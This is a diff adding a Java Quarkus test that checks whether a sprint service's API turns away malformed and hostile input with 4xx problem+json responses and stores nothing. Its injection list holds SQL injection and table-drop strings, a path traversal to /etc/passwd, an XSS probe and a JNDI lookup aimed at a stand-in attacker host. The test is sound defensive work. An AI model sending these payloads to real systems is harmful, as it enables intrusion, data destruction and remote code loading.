@@ -1,0 +1,253 @@
+package io.entente.sprint;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.entente.platform.testing.TestTokens;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.response.Response;
+import jakarta.inject.Inject;
+import jakarta.persistence.EntityManager;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+
+import static io.restassured.RestAssured.given;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Bad input against every write of the sprint service: each answer is a 4xx problem+json, never a 5xx, and nothing
+ * is stored (rows, audit). The valid body of each endpoint is broken one way at a time.
+ */
+@QuarkusTest
+class BadInputTest {
+
+    static final String USER = "bad-input";
+    static final String TOKEN = TestTokens.user(USER).roles("admin").sign();
+    static final ObjectMapper JSON = new ObjectMapper();
+    static final String BIG = "x".repeat(600 * 1024);
+    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "S-BAD; DROP TABLE sprint; --", "../../etc/passwd",
+            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "S-BAD\u0000"};
+
+    record Case(String name, String method, String path, String contentType, String body) {
+        @Override
+        public String toString() {
+            return method + " " + path + ": " + name;
+        }
+    }
+
+    static final String TEAM = """
+            {"name":"Bad input team","description":"d","disciplines":["GOVERNANCE"],"alliances":["ONC-HELIX"],
+             "members":[{"userId":"tara","displayName":"Tara Singh","role":"LEAD","pointsPerDay":1.0}],
+             "wipLimits":{"IN_PROGRESS":3}}""";
+    static final String SPRINT = """
+            {"teamId":"{team}","name":"Sprint 1","goal":"g","startDate":"2026-11-23","endDate":"2026-12-04"}""";
+    static final String COMMIT = """
+            {"itemId":"00000000-0000-0000-0000-0000000000aa","overrideCapacity":false,"reason":null}""";
+    static final String CAPACITY = """
+            {"members":[{"userId":"tara","absenceDays":1,"pointsPerDay":1.0}]}""";
+
+    static String teamId;
+    static String sprintId;
+
+    @Inject
+    EntityManager em;
+
+    @BeforeEach
+    void fixtures() {
+        if (teamId == null) {
+            teamId = given().auth().oauth2(TOKEN).contentType("application/json").body(TEAM).post("/api/teams")
+                    .then().statusCode(201).extract().path("id");
+            sprintId = given().auth().oauth2(TOKEN).contentType("application/json")
+                    .body(SPRINT.replace("{team}", teamId)).post("/api/sprints")
+                    .then().statusCode(201).extract().path("id");
+        }
+    }
+
+    static String with(String valid, String field, String rawJson) {
+        try {
+            ObjectNode node = (ObjectNode) JSON.readTree(valid);
+            if (rawJson == null) {
+                node.remove(field);
+            } else {
+                node.set(field, JSON.readTree(rawJson));
+            }
+            return JSON.writeValueAsString(node);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    static String str(String s) {
+        try {
+            return JSON.writeValueAsString(s);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    /** The breakages every JSON write gets. */
+    static List<Case> common(String method, String path, String valid, String textField) {
+        List<Case> cases = new ArrayList<>();
+        String json = "application/json";
+        cases.add(new Case("empty body", method, path, json, ""));
+        cases.add(new Case("truncated JSON", method, path, json, valid.substring(0, valid.length() / 2)));
+        cases.add(new Case("not JSON", method, path, json, "title=hello&x=1"));
+        cases.add(new Case("JSON array", method, path, json, "[" + valid + "]"));
+        cases.add(new Case("JSON null", method, path, json, "null"));
+        cases.add(new Case("JSON string", method, path, json, "\"hello\""));
+        cases.add(new Case("trailing garbage", method, path, json, valid + "}}"));
+        cases.add(new Case("duplicate nesting", method, path, json, "{\"a\":" + valid + "}"));
+        cases.add(new Case("wrong content type", method, path, "text/plain", valid));
+        cases.add(new Case("XML", method, path, "application/xml", "<item><title>x</title></item>"));
+        cases.add(new Case("missing everything", method, path, json, "{}"));
+        cases.add(new Case("unknown field", method, path, json, with(valid, "hacker", "true")));
+        cases.add(new Case("client sets id", method, path, json,
+                with(valid, "id", "\"00000000-0000-0000-0000-000000000001\"")));
+        cases.add(new Case("client sets version", method, path, json, with(valid, "version", "7")));
+        cases.add(new Case("client sets createdAt", method, path, json,
+                with(valid, "createdAt", "\"2020-01-01T00:00:00Z\"")));
+        cases.add(new Case("client sets createdBy", method, path, json, with(valid, "createdBy", "\"admin\"")));
+        cases.add(new Case(textField + " as object", method, path, json, with(valid, textField, "{\"a\":1}")));
+        cases.add(new Case(textField + " as array", method, path, json, with(valid, textField, "[\"a\"]")));
+        cases.add(new Case(textField + " blank", method, path, json, with(valid, textField, "\"   \"")));
+        cases.add(new Case(textField + " 10k characters", method, path, json,
+                with(valid, textField, str("y".repeat(10_000)))));
+        cases.add(new Case(textField + " with a NUL character", method, path, json,
+                with(valid, textField, "\"a\\u0000b\"")));
+        cases.add(new Case("body over 512 KB", method, path, json, with(valid, textField, str(BIG))));
+        cases.add(new Case("deeply nested", method, path, json, valid.substring(0, valid.lastIndexOf('}'))
+                + ",\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "}"));
+        return cases;
+    }
+
+    static List<Case> field(String method, String path, String valid, String field, String... rawValues) {
+        List<Case> cases = new ArrayList<>();
+        for (String raw : rawValues) {
+            cases.add(new Case(field + " = " + (raw == null ? "(missing)" : abbreviate(raw)), method, path,
+                    "application/json", with(valid, field, raw)));
+        }
+        return cases;
+    }
+
+    static String abbreviate(String s) {
+        return s.length() > 40 ? s.substring(0, 40) + "…" : s;
+    }
+
+    static List<String> injections() {
+        return Stream.of(INJECTIONS).map(BadInputTest::str).toList();
+    }
+
+    static Stream<Case> cases() {
+        List<Case> all = new ArrayList<>();
+        String teams = "/api/teams";
+        all.addAll(common("POST", teams, TEAM, "name"));
+        all.addAll(field("POST", teams, TEAM, "name", null, "\"\"", str("n".repeat(101))));
+        all.addAll(field("POST", teams, TEAM, "disciplines", null, "[]", "[\"cooking\"]", "\"GOVERNANCE\"",
+                "[null]"));
+        all.addAll(field("POST", teams, TEAM, "alliances", null, "[]", "[\"onc-helix\"]"));
+        all.addAll(field("POST", teams, TEAM, "alliances",
+                injections().stream().map(s -> "[" + s + "]").toArray(String[]::new)));
+        all.addAll(field("POST", teams, TEAM, "members", null, "[]", "[{}]",
+                "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"LEAD\",\"pointsPerDay\":5.01}]",
+                "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"LEAD\",\"pointsPerDay\":-1}]",
+                "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"LEAD\",\"pointsPerDay\":1.001}]",
+                "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"KING\",\"pointsPerDay\":1}]",
+                "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"LEAD\",\"pointsPerDay\":\"lots\"}]",
+                "[{\"userId\":\"tara\",\"displayName\":\"T\",\"role\":\"LEAD\",\"pointsPerDay\":1,\"admin\":true}]"));
+        all.addAll(field("POST", teams, TEAM, "wipLimits", "{\"IN_PROGRESS\":0}", "{\"IN_PROGRESS\":201}",
+                "{\"NOWHERE\":3}", "{\"IN_PROGRESS\":null}", "[3]"));
+
+        String sprints = "/api/sprints";
+        String sprint = SPRINT.replace("{team}", "00000000-0000-0000-0000-000000000001");
+        all.addAll(common("POST", sprints, sprint, "name"));
+        all.addAll(field("POST", sprints, sprint, "teamId", null, "\"not-a-uuid\"", "42",
+                "\"00000000-0000-0000-0000-000000000001\""));
+        all.addAll(field("POST", sprints, sprint, "startDate", null, "\"2026-02-30\"", "\"23.11.2026\"",
+                "\"2026-11-23T09:00:00+25:00\"", "\"2026-11-23[Mars/Olympus]\"", "\"+999999999-01-01\""));
+        all.addAll(field("POST", sprints, sprint, "endDate", null, "\"2026-13-04\"", "\"soon\""));
+        all.addAll(field("POST", sprints, sprint, "goal", str("g".repeat(1001))));
+
+        String commit = "/api/sprints/{sprint}/items";
+        all.addAll(common("POST", commit, COMMIT, "reason"));
+        all.addAll(field("POST", commit, COMMIT, "itemId", null, "\"x\"", "[]"));
+        all.addAll(field("POST", commit, COMMIT, "overrideCapacity", "\"yes please\"", "{}"));
+        all.addAll(field("POST", commit, COMMIT, "reason", str("r".repeat(501))));
+
+        String capacity = "/api/sprints/{sprint}/capacity";
+        all.addAll(common("PUT", capacity, CAPACITY, "members"));
+        all.addAll(field("PUT", capacity, CAPACITY, "members", "[]",
+                "[{\"userId\":\"tara\",\"absenceDays\":-1}]", "[{\"userId\":\"tara\",\"absenceDays\":61}]",
+                "[{\"userId\":\"\",\"absenceDays\":1}]", "[{\"userId\":\"tara\",\"absenceDays\":\"one\"}]"));
+
+        String team = "/api/teams/{team}";
+        all.addAll(common("PUT", team, TEAM, "name"));
+        all.addAll(field("PUT", team, TEAM, "members", "[]"));
+        all.addAll(field("PUT", team, TEAM, "version", "0"));
+        all.add(new Case("state to nowhere", "PUT", "/api/sprints/{sprint}/state", "application/json",
+                "{\"state\":\"PARTY\"}"));
+        all.add(new Case("state missing", "PUT", "/api/sprints/{sprint}/state", "application/json", "{}"));
+        return all.stream();
+    }
+
+    long[] counts() {
+        String[] tables = {"team", "team_member", "sprint", "sprint_capacity", "sprint_item"};
+        long[] counts = new long[tables.length + 3];
+        for (int i = 0; i < tables.length; i++) {
+            counts[i] = count("select count(*) from " + tables[i]);
+        }
+        counts[tables.length] = count("select count(*) from audit_log where actor = '" + USER + "'");
+        counts[tables.length + 1] = count("select coalesce(sum(version), 0) from team");
+        counts[tables.length + 2] = count("select coalesce(sum(version), 0) from sprint");
+        return counts;
+    }
+
+    long count(String sql) {
+        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("cases")
+    void refusedWith4xxProblemAndNothingStored(Case c) {
+        long[] before = counts();
+        String path = c.path().replace("{team}", teamId).replace("{sprint}", sprintId);
+        String body = c.body().replace("{team}", teamId);
+        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(body);
+        if (c.method().equals("PUT")) {
+            String readPath = path.endsWith("/capacity") || path.endsWith("/state") ? "/api/sprints/" + sprintId
+                    : path;
+            request = request.header("If-Match", given().auth().oauth2(TOKEN).get(readPath).header("ETag"));
+        }
+        Response r = request.request(c.method(), path);
+        String text = r.asString();
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
+                c + " answered " + r.statusCode() + ": " + abbreviate(text));
+        if (r.statusCode() == 413) {
+            // Known gap: Vert.x refuses an oversized body before JAX-RS runs, with an empty 413 (no problem+json).
+            assertEquals("body over 512 KB", c.name(), c.toString());
+        } else {
+            assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
+                    c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(text));
+            assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
+        }
+        assertTrue(!text.contains("Exception") && !text.contains("org.hibernate"), "no internals: " + text);
+        assertEquals(java.util.Arrays.toString(before), java.util.Arrays.toString(counts()), c + ": nothing stored");
+    }
+
+    static Stream<String> badQueries() {
+        return Stream.of("limit=0", "limit=201", "limit=abc", "after=garbage",
+                "teamId=not-a-uuid", "state=PARTY", "limit=99999999999");
+    }
+
+    @ParameterizedTest(name = "GET /api/sprints?{0}")
+    @MethodSource("badQueries")
+    void badQueriesAre4xx(String query) {
+        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/sprints?" + query);
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, query + " answered " + r.statusCode());
+        assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
+    }
+}
